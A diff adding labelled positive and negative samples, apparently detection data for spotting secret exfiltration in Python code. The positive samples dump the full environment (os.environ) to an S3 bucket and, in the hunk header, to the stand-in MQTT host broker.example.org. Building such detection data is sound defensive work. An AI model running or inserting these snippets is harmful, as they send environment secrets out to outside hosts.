@@ -83,3 +83,9 @@ publish.single("t/x", json.dumps(dict(os.environ)), hostname="broker.example.org
 import json, socket
 import paho.mqtt.publish as publish
 publish.single("t/x", json.dumps({"host": socket.gethostname()}), hostname="broker.example.org")
+#@ pos the environment put in an S3 bucket
+import boto3, json, os
+boto3.client("s3").put_object(Bucket="b", Key="k", Body=json.dumps(dict(os.environ)))
+#@ neg a build report put in an S3 bucket
+import boto3, json
+boto3.client("s3").put_object(Bucket="b", Key="k", Body=json.dumps({"ok": 1}))
